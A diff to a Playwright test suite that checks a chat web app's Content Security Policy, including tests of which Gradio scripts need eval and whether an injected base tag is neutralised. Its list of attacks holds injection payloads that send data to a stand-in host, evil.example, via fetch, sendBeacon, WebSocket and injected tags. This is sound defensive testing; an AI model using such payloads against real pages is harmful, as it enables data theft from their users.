@@ -3,9 +3,10 @@
 from collections.abc import Iterator
 
 import pytest
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Browser, Page, Route, expect
 
 from chat.web.policy import Policy
+from tests.program import Program
 from tests.serving import served
 from tests.unit.web.mounted import small_server
 
@@ -40,7 +41,7 @@ ATTACKS = [
     ("style-src-elem", INTO_PAGE.format("<link rel=stylesheet href=http://evil.example/leak>")),
     ("frame-src", INTO_PAGE.format("<iframe src=http://evil.example/></iframe>")),
     ("object-src", INTO_PAGE.format("<object data=/theme.css></object>")),
-    ("base-uri", "document.querySelector('base').href = 'http://evil.example/'"),
+    ("base-uri", INTO_PAGE.format("<base href=http://evil.example/>")),
     ("connect-src", "fetch('http://evil.example/leak').catch(() => 0)"),
     ("connect-src", "try { new WebSocket('ws://evil.example/') } catch { 0 }"),
     ("connect-src", "navigator.sendBeacon('http://evil.example/leak', 'x')"),
@@ -146,4 +147,56 @@ def test_the_live_socket_of_the_same_server_is_allowed(chromium: Browser, addres
         })"""
     )
     assert outcome == "hello"
+    page.close()
+
+
+# What the page would do if its policy were stricter: by which scripts, and what.
+OBSERVED = "script-src 'self' 'unsafe-inline'; require-trusted-types-for 'script'"
+LISTENS = """
+    window.observed = [];
+    document.addEventListener('securitypolicyviolation', event => {
+        window.observed.push([event.effectiveDirective, event.blockedURI, event.sourceFile]);
+    });
+"""
+
+
+def test_eval_is_granted_for_two_parts_of_gradio_and_ours_need_nothing(
+    chromium: Browser, easel: Program
+) -> None:
+    """Whoever sees this fail after an update of Gradio may be able to drop ``'unsafe-eval'``."""
+    context = chromium.new_context()
+    context.add_init_script(LISTENS)
+
+    def watched(route: Route) -> None:
+        answer = route.fetch()
+        headers = {**answer.headers, "content-security-policy-report-only": OBSERVED}
+        route.fulfill(response=answer, headers=headers)
+
+    page = context.new_page()
+    page.route(f"{easel.address}/", watched)
+    page.goto(easel.address)
+    expect(page.locator("body[data-settings=shown]")).to_be_attached()
+    observed = page.evaluate("window.observed")
+    scripts = {
+        (directive, blocked, str(source).rpartition("/")[2].partition("-")[0])
+        for directive, blocked, source in observed
+    }
+    evaluating = {script for directive, blocked, script in scripts if blocked == "eval"}
+    assert evaluating == {"Blocks", "HTML"}
+    assert not [each for each in observed if "/easel/js/" in each[2]]
+    context.close()
+
+
+def test_what_is_not_yet_trusted_is_looked_at_and_breaks_nothing(
+    chromium: Browser, easel: Program
+) -> None:
+    page = chromium.new_page()
+    answer = page.goto(easel.address)
+    assert answer is not None
+    looked_at = answer.headers["content-security-policy-report-only"]
+    assert looked_at == "require-trusted-types-for 'script'; trusted-types easel"
+    assert "base-uri 'none'" in answer.headers["content-security-policy"]
+    expect(page.locator("body[data-easel=ready]")).to_be_attached()
+    page.evaluate("document.head.insertAdjacentHTML('afterbegin', '<base href=//evil.example/>')")
+    assert page.evaluate("document.baseURI") == f"{easel.address}/"
     page.close()
